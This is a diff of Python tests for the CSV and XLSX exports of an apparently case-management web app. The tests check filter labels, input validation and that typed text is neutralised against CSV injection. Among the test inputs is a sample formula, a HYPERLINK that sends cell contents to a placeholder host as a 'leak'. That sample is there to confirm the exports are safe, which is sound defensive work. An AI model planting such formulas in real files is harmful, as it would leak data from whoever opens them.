@@ -28,6 +28,7 @@ from tests.web.test_access_matrix import (
     on_the_waitlist,
 )
 from tests.web.test_as_of_pages import rome_time, two_intakes_minutes_apart, view_as_of
+from web.exports import Column, Table, to_csv, to_xlsx
 from web.pages import audit_events
 
 
@@ -246,7 +247,7 @@ def test_the_case_list_downloads_every_case_its_filters_select_not_only_the_page
 
     stamps, table = csv_export(coordinator, "/cities/milano/cases/export.csv",
                                protection_status="asylum_seeker", page_size="2")
-    assert stamps["Filter"] == [("protection_status", "asylum_seeker")]
+    assert stamps["Filter"] == [("Protection status", "Asylum seeker")]  # as the form says
     assert table[0][:3] == ["Case code", "Intake date", "Protection status"]
     codes = [row[0] for row in table[1:]]
     assert len(codes) == 3 and set(shown) <= set(codes)
@@ -256,6 +257,8 @@ def test_the_case_list_downloads_every_case_its_filters_select_not_only_the_page
     assert sheet.max_row == 1 + 4  # the header and every Milan case
     assert clients.coordinator("firenze").get("/cities/milano/cases/export.csv").status_code \
         in (403, 404)
+    assert coordinator.get("/cities/milano/cases/export.csv",
+                           params={"intake_month": "2021-13"}).status_code == 422
 
 
 def test_the_identifier_access_log_and_the_grants_download_for_those_who_check_them(
@@ -284,3 +287,58 @@ def test_the_identifier_access_log_and_the_grants_download_for_those_who_check_t
     assert rows[1][6] == "Live"
     assert coordinator.get("/audit/identifier-access/grants/export.csv").status_code == 403
     assert ministry.get("/audit/identifier-access/other/export.csv").status_code == 404
+
+
+# Text people typed, as a spreadsheet would run it if it were written as it is (CSV injection).
+FORMULAS = ('=HYPERLINK("http://example.org/?leak="&A1,"Open")', "+1+1", "@SUM(A1)", "-2+3",
+            "\tcmd", "\r=1+1")
+
+
+def test_typed_text_beginning_like_a_formula_downloads_as_inert_text(
+    clients: Clients, platform: WebTestPlatform
+) -> None:
+    claim_id = a_pending_claim(clients, "")
+    ministry = clients.ministry()
+    # A rejection reason holding a control character (pasted from a word processor), which an
+    # XLSX file cannot hold: it is left out, not a failed download.
+    rejected = ministry.post(f"/api/v1/finance/claims/{claim_id}/rejection",
+                             json={"reason": f"{FORMULAS[0]}\x0b."})
+    assert rejected.status_code == 200, rejected.text
+    coordinator = clients.coordinator("milano")
+
+    _, claims = csv_export(coordinator, "/cities/milano/finance/claims/export.csv")
+    sheet = xlsx_export(coordinator, "/cities/milano/finance/claims/export.xlsx").worksheets[0]
+
+    assert claims[1][6] == f"'{FORMULAS[0]}\x0b."  # the CSV keeps the text, after a quote
+    reason = sheet["G2"]
+    assert reason.value == f"{FORMULAS[0]}." and reason.data_type == "s"
+    assert reason.quotePrefix
+    assert sheet["E2"].value == Decimal(A_CLAIM["amount"]) and sheet["E2"].data_type == "n"
+
+
+def test_every_text_cell_and_stamp_is_inert_and_numbers_stay_numbers() -> None:
+    table = Table(
+        name="t", title=FORMULAS[2],
+        columns=[Column("Note"), Column("Amount", "money"), Column("Count", "int")],
+        rows=[[text, Decimal("-12.5"), -3] for text in FORMULAS] + [["#N/A", None, 0]],
+        as_of=datetime(2021, 3, 15, 12, tzinfo=PROGRAMME_TIMEZONE), position=7,
+        filters=[("Actor", FORMULAS[1])],
+    )
+
+    lines = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
+    workbook = load_workbook(io.BytesIO(to_xlsx(table)))
+    rows = list(workbook.worksheets[0].iter_rows(min_row=2))
+
+    assert lines[0] == ["Table", f"'{FORMULAS[2]}"]
+    assert lines[3] == ["Filter", "Actor", f"'{FORMULAS[1]}"]
+    assert [line[0] for line in lines[6:-1]] == [f"'{text}" for text in FORMULAS]
+    assert {tuple(line[1:]) for line in lines[6:-1]} == {("-12.50", "-3")}
+    assert lines[-1] == ["#N/A", "", "0"]
+    # (XML reads a carriage return as a line feed.)
+    assert [row[0].value for row in rows] == [t.replace("\r", "\n") for t in FORMULAS] + ["#N/A"]
+    assert {row[0].data_type for row in rows} == {"s"}  # no formula, no error value
+    assert all(row[0].quotePrefix for row in rows[:-1]) and not rows[-1][0].quotePrefix
+    assert {(row[1].value, row[2].value) for row in rows[:-1]} == {(Decimal("-12.5"), -3)}
+    assert {row[1].data_type for row in rows[:-1]} == {"n"}
+    assert about(workbook)["Table"] == FORMULAS[2]
+    assert workbook["About"]["B1"].data_type == "s"
